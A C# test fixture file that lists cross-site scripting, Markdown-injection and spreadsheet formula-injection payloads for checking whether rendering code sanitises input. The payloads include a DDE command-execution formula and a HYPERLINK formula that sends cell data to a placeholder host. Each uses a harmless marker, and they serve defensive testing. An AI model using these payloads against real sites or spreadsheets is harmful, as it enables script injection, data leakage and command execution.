namespace MeshLab.Tests.Injection;

/// <summary>
/// Texts that would run script or add elements where they are written into a page as they are. Elements carry <c>data-injected</c> and script counts in
/// <c>window.injected</c>, so that a test can tell whether any of it took. The kinds follow OWASP's cheat sheets on filter evasion.
/// </summary>
public static class Payloads
{
    /// <summary>For HTML, attributes, SVG, addresses and templates.</summary>
    public static IReadOnlyList<string> Html { get; } =
    [
        "<script data-injected>window.injected=1</script>",
        "</script><script data-injected>window.injected=1</script>",
        "<img data-injected src=x onerror=window.injected=1>",
        "<IMG DATA-INJECTED SRC=x OnErRoR=window.injected=1>",
        "<svg data-injected onload=window.injected=1>",
        "<svg data-injected/onload=window.injected=1//",
        "<svg><style data-injected><img src=x onerror=window.injected=1></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img data-injected title=\"--&gt;&lt;img src=x onerror=window.injected=1&gt;\">",
        "\" autofocus onfocus=window.injected=1 data-injected x=\"",
        "' autofocus onfocus=window.injected=1 data-injected x='",
        "\"><iframe data-injected srcdoc=\"<script>parent.injected=1</script>\"></iframe>",
        "'><object data-injected data=\"javascript:window.injected=1\"></object>",
        "<details data-injected open ontoggle=window.injected=1>x</details>",
        "<a data-injected href=\"javascript:window.injected=1\">x</a>",
        "<a data-injected href=\"java\tscript:window.injected=1\">x</a>",
        "<form data-injected action=\"javascript:window.injected=1\"><button>x</button></form>",
        "<base data-injected href=\"//example.invalid/\">",
        "<meta data-injected http-equiv=refresh content=\"0;url=javascript:window.injected=1\">",
        "<link data-injected rel=stylesheet href=\"//example.invalid/x.css\">",
        "<style data-injected>*{background:url(//example.invalid/x)}</style>",
        "<template data-injected><script>window.injected=1</script></template>",
        "<!--><img data-injected src=x onerror=window.injected=1>-->",
        "<noscript><p title=\"</noscript><img data-injected src=x onerror=window.injected=1>\">",
        "&lt;img data-injected src=x onerror=window.injected=1&gt;",
        "\u202E<img data-injected src=x onerror=window.injected=1>\u202C",
        "{{constructor.constructor('window.injected=1')()}}",
        "${window.injected=1}",
        "@(new Html())",
        "]]><script data-injected>window.injected=1</script>",
        "<text data-injected><tspan onclick=window.injected=1>x</tspan></text>",
    ];

    /// <summary>For Markdown besides.</summary>
    public static IReadOnlyList<string> Markdown { get; } =
    [
        .. Html,
        "[x](javascript:window.injected=1)",
        "[x](JaVaScRiPt&#58;window.injected=1)",
        "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaW5qZWN0ZWQ9MTwvc2NyaXB0Pg==)",
        "[x](vbscript:window.injected=1)",
        "![x](x\"onerror=\"window.injected=1)",
        "![x\" onerror=\"window.injected=1](x)",
        "[x](x 'onclick=window.injected=1 data-injected')",
        "<javascript:window.injected=1>",
        "[a]: javascript:window.injected=1\n\n[a]",
        "```html\" data-injected onclick=\"window.injected=1\n<script data-injected>window.injected=1</script>\n```",
        "| <img data-injected src=x onerror=window.injected=1> |\n|---|\n| <script data-injected>window.injected=1</script> |",
        "<div\n\n<img data-injected src=x onerror=window.injected=1>",
        "## <img data-injected src=x onerror=window.injected=1> {#x onclick=window.injected=1}",
    ];

    /// <summary>For spreadsheets: what Excel, LibreOffice or Google Sheets would take for a formula or a command.</summary>
    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?\"&A1,\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uFF1D1+1", "=\"a\"&\"b\"",
    ];
}
